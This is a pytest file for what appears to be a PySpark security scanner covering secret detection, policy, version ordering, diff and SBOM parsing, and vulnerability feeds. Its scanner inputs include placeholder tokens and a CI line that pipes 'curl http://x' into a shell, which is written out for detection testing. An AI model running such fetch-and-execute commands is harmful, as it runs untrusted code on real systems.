"""The scan, policies, versions, sources, snapshots and streaming."""

import json
import random
import re
import zlib
from base64 import b64encode

import pytest
from pyspark.sql import functions as F

from palisade.functions import escape, paths, regexdialect, versions
from palisade.functions.registry import GENERIC, Rule, builtin_context_rules, builtin_rules, validate
from palisade.operators import classify, components, context, correlate, enrich, lifecycle, policy, quality, scan, vuln
from palisade.plans import reports, snapshots
from palisade.sources import diff, feeds, manifests, sbom
from palisade.streaming import scan as streaming


def lines_of(spark, rows):
    return spark.createDataFrame([(p, i, c) for p, i, c in rows], "path string, line int, content string")


def test_registry():
    validate(builtin_rules())
    validate(builtin_context_rules())
    assert (len(builtin_rules()), len(builtin_context_rules())) == (267, 32)
    with pytest.raises(ValueError):
        validate([*builtin_rules(), builtin_rules()[0]])
    for r in builtin_rules():
        assert all(x == x.lower() for x in regexdialect.required(r.regex, r.ignore_case))


def oracle(rules, path, line):
    """Spans that stay, by a plain reading of the definition."""
    got = []
    for order, r in enumerate(rules):
        if r.globs and not any(re.match(regexdialect.glob(g.lower()), path.lower()) for p in r.globs for g in (p, p[3:] if p.startswith("**/") else p)):
            continue
        for m in re.finditer(r.regex, line, re.IGNORECASE if r.ignore_case else 0):
            got.append((m.start(), -(m.end() - m.start()), order, m.end()))
    lap = lambda a, b: a[0] < b[3] and b[0] < a[3]
    specific = [g for g in got if rules[g[2]].kind == "secret" and rules[g[2]].name not in GENERIC]
    kept = []
    for g in sorted(g for g in got if not (rules[g[2]].name in GENERIC and any(lap(g, s) for s in specific))):
        if not any(lap(g, k) for k in kept):
            kept.append(g)
    return sorted((g[0], rules[g[2]].rule_id) for g in kept)


def test_scan_against_plain_python(spark):
    rules = [r for r in builtin_rules() if not r.validator]
    r = random.Random(0)
    bits = ["password=", "hunter2222", "token: ", "a" * 40, "ghp_" + "b" * 36, "é", " ", '"', "AKIA" + "Z" * 16, "sk-ant-" + "c" * 40, "secret =", "postgres://u:p@h/d", "xoxb-1234567890-1234567890-" + "d" * 24, ",", "𝄞", "run: curl http://x | sh", "-----BEGIN PRIVATE KEY-----"]
    rows = [(r.choice(["a.txt", "Makefile", ".github/workflows/ci.yml", "x/AGENTS.md"]), i, "".join(r.choice(bits) for _ in range(r.randrange(1, 9)))) for i in range(150)]
    got = scan.matches(lines_of(spark, rows), rules).select("line", "start", "order").collect()
    by = {}
    for x in got:
        by.setdefault(x["line"], []).append((x["start"], rules[x["order"]].rule_id))
    for p, i, c in rows:
        assert sorted(by.get(i, [])) == oracle(rules, p, c), (p, c)


def test_checksum_and_placeholder(spark):
    body = "A" * 54
    good = b64encode(zlib.crc32(body.encode()).to_bytes(4, "little"))[:6].decode()
    rows = [("a", 1, f"x cflt{body}{good}"), ("a", 2, f"x cflt{body}AAAAAA"), ("a", 3, "password=REDACTED_VALUE"), ("a", 4, "password=real_value")]
    got = {(r["line"], r["rule_id"]) for r in scan.findings(lines_of(spark, rows)).collect()}
    assert (1, "CRT-SEC-184") in got and (2, "CRT-SEC-184") not in got and (4, "CRT-SEC-014") in got and not any(x == 3 for x, _ in got)


def test_policy(spark):
    rows = [("src/a.py", 1, "password=abcdefgh"), ("tests/b.py", 1, "password=abcdefgh"), ("src/c.py", 1, "password=${PW}"), ("src/d.py", 1, "token=" + "x" * 20)]
    found = scan.findings(lines_of(spark, rows))
    kept = policy.apply_policy(found, threshold="high", ignore=["tests/*"], high=["src/d*"], allow=policy.parse_allowlist("# c\npattern:NOPE\nvalue:zzz"))
    assert {(r["file"], r["severity"]) for r in kept.collect()} == {("src/a.py", "high"), ("src/d.py", "high")}
    s = policy.summary(found).first()
    assert s.total_findings == 4 and s.exit_code == 1 and policy.summary(found.limit(0)).first().exit_code == 0
    base = found.where("file = 'src/a.py'").select("fingerprint")
    assert policy.apply_baseline(found, base).count() == 3
    assert policy.baseline_counters(found, base).first().asDict() == {"total": 1, "matched": 1, "suppressed": 1, "stale": 0}
    with pytest.raises(ValueError):
        policy.parse_allowlist("x" * 5000)


def test_context_and_classify(spark):
    tf = ['cidr_blocks = ["0.0.0.0/0"]', "x", "from_port = 22", "to_port = 22"]
    far = ["permissions:", "", "", "", "", "  id-token: write"]
    rows = [("a.tf", i + 1, x) for i, x in enumerate(tf)] + [(".github/workflows/x.yml", i + 1, x) for i, x in enumerate(far)]
    got = context.context_matches(lines_of(spark, rows))
    assert [(r.path, r.rule_id, r.components) for r in got.collect()] == [("a.tf", "CRT-IAC-018", [1, 3, 4])]
    added = spark.createDataFrame([("a.tf", 2)], "path string, line int")
    assert context.touching(got, added).count() == 0 and context.touching(got, added.withColumn("line", F.lit(3))).count() == 1
    p = spark.createDataFrame([(x,) for x in (".github/workflows/a.yml", "my-config.json", "x/Dockerfile", "src/auth.py", ".env", "y")], "path string")
    assert sorted((r.file, r.category) for r in classify.config_changes(p).collect()) == [(".env", "ENV_CONFIG"), (".github/workflows/a.yml", "CI_CONFIG"), ("my-config.json", "AUTH_CONFIG"), ("src/auth.py", "SECURITY_CONFIG")]


def test_versions_are_orders(spark):
    r = random.Random(1)
    parts = ["1", "2", "10", "0", "1.0", "1-alpha", "2.0.0-rc.1", "1.0.0", "1.0.0-a", "1.0.0-1", "1a", "1~b", "1.0a1", "1.0.dev3", "1.0.post2", "3:1.0", "1.0.0+x"]
    pairs = [(e, a, b) for e in ("npm", "pypi", "golang", "maven", "nuget", "rubygems", "composer", "debian", "x") for a in parts for b in parts]
    df = spark.createDataFrame(pairs, "e string, a string, b string")
    c = {(x.e, x.a, x.b): x.c for x in df.select("*", versions.compare(F.col("e"), F.col("a"), F.col("b")).alias("c")).collect()}
    for (e, a, b), v in c.items():
        assert (v is None) == (c[e, b, a] is None) and (v is None or v == -c[e, b, a]) and (a != b or v in (0, None))
    for e in ("npm", "pypi", "golang", "nuget", "x"):
        for _ in range(300):
            a, b, d = r.choice(parts), r.choice(parts), r.choice(parts)
            if None not in (c[e, a, b], c[e, b, d]) and c[e, a, b] <= 0 and c[e, b, d] <= 0:
                assert c[e, a, d] <= 0


def test_paths(spark):
    import posixpath

    cases = ["a/../b/./c", "/../x", "../../a", "", "a/..", "a//b/", "./a", "/", "a/b/../../.."]
    got = spark.createDataFrame([(x,) for x in cases], "p string").select("p", paths.normal(F.col("p")).alias("n")).collect()
    assert all(x.n == posixpath.normpath(x.p) for x in got)


DIFF = """diff --git a/x.py b/x.py
--- a/x.py
+++ b/x.py
@@ -1,2 +1,3 @@
 keep
-old
+password=abcdefgh
+new
diff --git a/n.txt b/n.txt
new file mode 100644
--- /dev/null
+++ b/n.txt
@@ -0,0 +1 @@
+hello
diff --git a/o b/p
similarity index 100%
rename from o
rename to p
"""


def test_diff(spark):
    bad = ["nonsense", DIFF.replace("@@ -1,2 +1,3 @@", "@@ -1,2 +1,4 @@"), "--- a/../x\n+++ b/x\n@@ -1 +1 @@\n-a\n+b\n", DIFF.replace("rename from o\n", "")]
    df = spark.createDataFrame([(i, t) for i, t in enumerate([DIFF, "", None, *bad])], "diff_id int, text string")
    files = diff.diff_files(df)
    got = files.collect()
    assert sorted((r.path, r.operation) for r in got if r.diff_id == "0") == [("n.txt", "create"), ("p", "rename"), ("x.py", "modify")]
    assert {r.diff_id for r in got if r.reject_reason} == {"3", "4", "5", "6"}
    added = diff.diff_lines(files).where("line_type = 'added'")
    assert sorted((r.path, r.line, r.content) for r in added.collect()) == [("n.txt", 1, "hello"), ("x.py", 2, "password=abcdefgh"), ("x.py", 3, "new")]
    assert [r["file"] for r in scan.findings(added).collect()] == ["x.py"]


def test_binary_patch():
    raw = b"hello world" * 3
    packed = zlib.compress(raw)
    lines = []
    for i in range(0, len(packed), 52):
        chunk = packed[i : i + 52]
        padded = chunk + b"\0" * (-len(chunk) % 4)
        text = ""
        for k in range(0, len(padded), 4):
            v, group = int.from_bytes(padded[k : k + 4], "big"), ""
            for _ in range(5):
                v, d = divmod(v, 85)
                group = diff.BASE85[d] + group
            text += group
        lines.append((chr(64 + len(chunk)) if len(chunk) <= 26 else chr(70 + len(chunk))) + text)
    patch = "diff --git a/b.bin b/b.bin\nGIT binary patch\nliteral {}\n{}\n\n"
    assert diff.parse(patch.format(len(raw), "\n".join(lines)))[0].binary
    with pytest.raises(diff.Malformed):
        diff.parse(patch.format(len(raw) + 1, "\n".join(lines)))


def test_manifests(spark):
    files = {
        "requirements.txt": "Flask==2.0 ; python_version > '3'\nrequests>=2\nnumpy\n-r more.txt\ngit+https://x/y\n# c\n",
        "package-lock.json": json.dumps({"lockfileVersion": 3, "packages": {"": {"version": "1"}, "node_modules/a": {"version": "1.2.3"}, "node_modules/a/node_modules/@s/b": {"version": "2.0.0"}}}),
        "old/package-lock.json": json.dumps({"lockfileVersion": 1, "dependencies": {"c": {"version": "3.0.0", "dependencies": {"d": {"version": "4.0.0"}}}}}),
        "Cargo.lock": 'version = 3\n\n[[package]]\nname = "serde"\nversion = "1.0.1"\n\n[[package]]\nname = "broken"\n',
        "go.mod": "module m\n\nrequire (\n\tgolang.org/x/a v1.2.3 // indirect\n)\nrequire example.com/b v0.1.0\nreplace (\n\tx v1 => y v2\n)\n",
        "go.sum": "golang.org/x/a v1.2.3 h1:abc=\ngolang.org/x/a v1.2.3/go.mod h1:def=\n",
        "composer.lock": json.dumps({"packages": [{"name": "v/p", "version": "v1.0"}], "packages-dev": []}),
        "poetry.lock": '[[package]]\nname = "Foo_Bar"\nversion = "1.0"\n',
    }
    got = manifests.inventory(spark.createDataFrame(list(files.items()), "path string, text string")).collect()
    have = {(r.ecosystem, r.name, r.version) for r in got if r.kind == "component"}
    assert have == {
        ("pypi", "flask", "2.0"), ("npm", "a", "1.2.3"), ("npm", "@s/b", "2.0.0"), ("npm", "c", "3.0.0"), ("npm", "d", "4.0.0"), ("cargo", "serde", "1.0.1"),
        ("golang", "golang.org/x/a", "v1.2.3"), ("golang", "example.com/b", "v0.1.0"), ("composer", "v/p", "1.0"), ("pypi", "foo-bar", "1.0"),
    }
    assert {(r.name, r.reason) for r in got if r.kind == "unresolved"} == {("requests", "version_range"), ("numpy", "version_unknown")}
    edges = spark.createDataFrame([("a", "b"), ("b", "a"), ("b", "c")], "path string, target string")
    assert {(r.path, r.depth) for r in manifests.closure(edges, edges.where("path = 'a'")).where("warning is null").collect()} == {("a", 0), ("b", 1), ("c", 2)}


def test_sboms(spark):
    f = lambda d: spark.createDataFrame([("f", json.dumps(d))], "path string, text string")
    c = sbom.cyclonedx(f({"bomFormat": "CycloneDX", "specVersion": "1.5", "components": [{"name": "a", "version": "1", "purl": "pkg:npm/a@1"}, {"name": "b", "version": ""}, {"name": "d", "version": "1"}, {"name": "d", "version": "1"}]})).collect()
    assert sorted((r.name, r.reject_reason) for r in c if r.reject_reason) == [("b", "missing name or version"), ("d", "repeated component"), ("d", "repeated component")] and c[0].ecosystem in ("npm", None)
    s = sbom.spdx(f({"spdxVersion": "SPDX-2.3", "packages": [{"name": "a", "versionInfo": "1", "externalRefs": [{"referenceType": "purl", "referenceLocator": "pkg:cargo/a@1"}]}]})).first()
    assert s.ecosystem == "crates.io"
    t = sbom.trivy(f({"SchemaVersion": 2, "Results": [{"Target": "t", "Type": "npm", "Vulnerabilities": [{"VulnerabilityID": "CVE-1", "PkgName": "p", "InstalledVersion": "1", "Severity": "HIGH"}] * 2}]})).first()
    assert (t.severity, t.reject_reason) == ("high", "repeated finding")
    g = sbom.gitleaks(f([{"RuleID": "r", "File": "a", "StartLine": 1, "Secret": "REDACTED", "Match": ""}, {"RuleID": "r", "File": "b", "StartLine": 1, "Secret": "plain", "Match": ""}])).collect()
    assert sorted((r["file"], r.reject_reason) for r in g) == [("a", None), ("b", "evidence is not redacted")]


def test_feeds_and_matching(spark):
    rec = {"id": "OSV-1", "modified": "2024", "aliases": ["CVE-2024-0001"], "affected": [{"package": {"ecosystem": "PyPI", "name": "Flask"}, "ranges": [{"type": "ECOSYSTEM", "events": [{"introduced": "0"}, {"fixed": "2.1"}]}], "versions": ["9"]}]}
    files = spark.createDataFrame([("f", json.dumps({"vulns": [rec, {**rec, "modified": "2023"}, {"id": ""}]}))], "path string, text string")
    adv = feeds.osv(feeds.records(files))
    assert sorted((r.id, r.modified, r.reject_reason) for r in adv.collect()) == [("", None, "missing id"), ("OSV-1", "2024", None)]
    comps = spark.createDataFrame([("pip", "flask", v, None, "requirements.txt") for v in ("2.0", "2.1", "9", None, "bad version")], "ecosystem string, name string, version string, purl string, manifest_path string")
    m = vuln.match(comps, feeds.packages(adv))
    assert sorted((r.version, r.method) for r in m.collect()) == [("2.0", "ecosystem-range"), ("9", "exact-version")]
    assert sorted((r.version or "", r.status) for r in vuln.evaluate(comps, feeds.packages(adv)).collect()) == [("", "indeterminate"), ("2.0", "affected"), ("2.1", "not_affected"), ("9", "affected"), ("bad version", "not_affected")]
    e = spark.createDataFrame([(x,) for x in (">= 1, < 2", "< 2", ">= 1, <= 2", "= 3", "<= 4")], "t string").select("t", feeds.ghsa_events(F.col("t")).alias("e")).collect()
    assert [None if r.e is None else [(x.introduced, x.fixed, x.last_affected) for x in r.e] for r in e] == [[("1", None, None), (None, "2", None)], None, [("1", None, None)], [("3", None, None), (None, None, "3")], [("0", None, None), (None, None, "4")]]
    k = spark.createDataFrame([(json.dumps({"cve": "CVE-2024-0001", "epss": p, "percentile": 0.5, "date": "2024-01-01"}),) for p in (0.5, "0.25", 2, True)], "record string")
    assert [r.reject_reason for r in feeds.epss(k).collect()] == [None, None, "not a probability", "not a probability"]


def test_components(spark):
    r = random.Random(2)
    edges = [(r.randrange(300), r.randrange(300)) for _ in range(200)] + [(i, i + 1) for i in range(1000, 1100)] + [(2000, 2001 + i) for i in range(50)]
    up = {x: x for e in edges for x in e}

    def find(x):
        while up[x] != x:
            x = up[x]
        return x

    for a, b in edges:
        x, y = sorted((find(a), find(b)))
        up[y] = x
    got = {x.node: x.root for x in components.components(spark.createDataFrame(edges, "a long, b long")).collect()}
    assert all(got.get(x, x) == find(x) for x in up)
    assert components.components(spark.createDataFrame([], "a long, b long")).count() == 0


def test_correlation_and_enrichment(spark):
    adv = spark.createDataFrame([("GHSA-1", ["cve-2024-1"], "ghsa"), ("OSV-1", ["CVE-2024-1 "], "osv"), ("OSV-2", None, "osv")], "id string, aliases array<string>, source string")
    i = correlate.alias_index(adv)
    assert [(r.alias, r.advisory_ids) for r in correlate.alias_conflicts(i).collect()] == [("CVE-2024-1", ["GHSA-1", "OSV-1"])]
    rec = {r.root: r for r in correlate.reconciliation(i, adv).collect()}
    assert rec["GHSA-1"].source_scope == "cross-source" and rec["OSV-2"].ambiguous is False
    d = correlate.decide("merge", spark.createDataFrame([("GHSA-1",), ("OSV-1",)], "m string"), i)
    assert d.first().evidence == ["CVE-2024-1"] and correlate.decision_status(d, i).first().status == "valid"
    assert correlate.decision_status(d, i.where("alias <> 'CVE-2024-1'")).first().status == "stale"
    m = spark.createDataFrame([("C", "3.1", "Secondary", 9.0), ("C", "3.1", "Primary", 5.0), ("C", "2.0", "Primary", 10.0)], "cve_id string, version string, type string, score double")
    assert enrich.preferred_cvss(m).first().score == 5.0


def test_lifecycle_and_quality(spark):
    found = spark.createDataFrame([("f1", "A", ["CVE-1"], "pkg:x/y@1"), ("f2", "B", None, "pkg:x/z@1")], "fingerprint string, advisory_id string, aliases array<string>, component_purl string")
    vex = spark.createDataFrame([("CVE-1", ["pkg:x/y@1"], "not_affected", "j")], "vulnerability string, products array<string>, status string, justification string")
    sup = spark.createDataFrame([("f2", "known", "2020-01-01")], "fingerprint string, reason string, expires_at string")
    assert {(r.fingerprint, r.vex_status, r.suppressed) for r in lifecycle.annotate(found, vex, sup).collect()} == {("f1", "not_affected", True), ("f2", None, True)}
    assert lifecycle.suppression_lifecycle(sup, found, "2024-01-01").first().asDict() == {"fingerprint": "f2", "expired": True, "used": True}
    v = spark.createDataFrame([(float(x),) for x in (5, 1, 4, 2, 3, 3)], "v double")
    assert quality.percentiles(v, "v", (50, 95)).first().asDict() == {"p50": 3.0, "p95": 5.0}


def test_reports_and_snapshots(spark, tmp_path):
    found = scan.findings(lines_of(spark, [("a|b.py", 0, "password=abcdefgh")]))
    for kind in ("json", "sarif", "markdown", "html", "github"):
        text = reports.document(found, kind)
        assert "abcdefgh" not in text and "CRT-SEC-014" in text
    row = spark.createDataFrame([("=1+1", "a,b:c%\n")], "a string, b string").select(escape.csv_safe(F.col("a")).alias("a"), escape.github(F.col("b")).alias("b")).first()
    assert row == ("'=1+1", "a%2Cb%3Ac%25%0A")
    s = snapshots.Store(spark, str(tmp_path / "store"))
    a = spark.createDataFrame([(1, "x"), (2, "y")], "id int, v string")
    s.stage("s1", {"advisories": a, "packages": a.select("id")})
    s.stage("s2", {"advisories": a.limit(1), "packages": a.select("id")})
    keys = {"packages": ("id", "advisories", "id")}
    s.activate("s1", keys)
    assert s.active() == "s1" and s.prune(set()) == ["s2"]
    with pytest.raises(ValueError):
        s.activate("s2", keys)
    s.activate("s2")
    s.rollback("s1")
    assert s.active() == "s1" and s.prune(set(), apply=True) == ["s2"] and s.prune(set()) == []
    assert snapshots.digest(a) == snapshots.digest(a.orderBy(F.desc("id")))


def test_stream(spark, tmp_path):
    src = str(tmp_path / "in")
    spark.createDataFrame([("a", "x\npassword=abcdefgh", "2024-01-01 00:00:00"), ("a", "password=abcdefgh", "2024-01-01 00:01:00")], "path string, text string, at string").select("path", "text", F.to_timestamp("at").alias("at")).write.parquet(src)
    files = spark.readStream.schema("path string, text string, at timestamp").parquet(src)
    rules = [r for r in builtin_rules() if r.name == "PASSWORD_LITERAL"]
    streaming.start(streaming.stream_findings(files, rules), str(tmp_path / "out"), str(tmp_path / "cp")).awaitTermination()
    assert spark.read.parquet(str(tmp_path / "out")).count() == 1


def test_graph(spark):
    found = scan.findings(lines_of(spark, [("a", 1, "password=abcdefgh")]))
    g = lifecycle.graph(found, "repo").first()
    assert g.source_kind == "native-line-rule" and g.incident_id.startswith("incident-sha256:") and len({g.fact_id, g.delta_id, g.observation_id}) == 3
    change = lambda severity, how: spark.createDataFrame([("config", ".env", severity, how, "ENV")], "type string, file string, severity string, change_type string, category string")
    ids = lambda *a: lifecycle.graph(found, "repo", change(*a)).where("source_kind = 'config-classifier'").first()
    one = ids("high", "added")
    assert (one.rule_id, one.line, one.confidence, one.delta) == ("config:added:.env", 0, "high", "added")
    assert ids("high", "added").incident_id == one.incident_id != ids("high", "deleted").incident_id


def test_custom_rule_order():
    assert Rule("CRT-CUSTOM-0123456789AB", "X", "low", "abc").kind == "secret"


def test_control_documents(spark):
    from palisade.functions import control, ed25519
    from palisade.sources import statements

    # a published test vector of RFC 8032
    key = bytes.fromhex("3d4017c3e843895a92b70aa74d1b7ebc9c982ccf2ec4968cc0cd55f12af4660c")
    sig = bytes.fromhex("92a009a9f0d4cab8720e820b5f642540a2b27b5416503f8fb3762223ebdb69da085ac1e43e15996e458f3613d0f11d8c387b2eaeb4302aeeb00d291612bb0c00")
    assert ed25519.verify(key, b"\x72", sig) and not ed25519.verify(key, b"\x73", sig) and not ed25519.verify(key, b"\x72", sig[:63] + b"\x01")
    c = control.parse_config(json.dumps({"profile": "strict", "pattern_overrides": {"TOKEN_LITERAL": {"severity": "low"}}, "custom_patterns": [{"name": "X", "regex": "abc[0-9]{3}"}], "file_patterns": {"ignore_paths": ["t/*"]}}).encode())
    rules = control.configured(builtin_rules(), c)
    assert rules[-1].rule_id.startswith("CRT-CUSTOM-") and {r.severity for r in rules if r.name == "TOKEN_LITERAL"} == {"low"} and c.ignore == ("t/*",)
    for bad in (b"[]", b'{"x": 1}', b'{"profile": "none"}', b'{"profile": "strict", "profile": "strict"}', b"\xff"):
        with pytest.raises(ValueError):
            control.parse_config(bad)
    for bad in ("a|b", "a*", "a{1,2}", "(a)", "a{999}"):
        with pytest.raises(ValueError):
            control.linear_pattern(bad)
    assert control.linear_pattern(r"ab[0-9+]{3}\.") and control.parse_hook(b'{"schema": "s", "version": 1, "event": "post-change", "diff": "d"}') == "d"
    with pytest.raises(ValueError):
        control.parse_pack(json.dumps({"schema": "s", "version": 1, "key_id": "k", "pack": {}, "signature": "0" * 128}).encode(), {"k": key})
    f = lambda d: spark.createDataFrame([("f", json.dumps(d))], "path string, text string")
    v = statements.vex(f({"statements": [{"vulnerability": {"@id": "CVE-1"}, "products": [{"@id": "pkg:a/b@1"}], "status": "not_affected"}, {"vulnerability": "CVE-2", "products": ["p"], "status": "fixed"}]})).collect()
    assert sorted((r.vulnerability, r.products[0], r.reject_reason) for r in v) == [("CVE-1", "pkg:a/b@1", "not_affected without a justification"), ("CVE-2", "p", None)]
    s = statements.suppressions(f({"version": 2, "entries": [{"fingerprint": "sha256:" + "0" * 64, "reason": "r", "owner": "o", "ticket": "t", "scope": "s", "expires_at": "2024-01-01"}, {"fingerprint": "x", "reason": "r"}]})).collect()
    assert sorted(r.reject_reason or "" for r in s) == ["", "malformed fingerprint"]
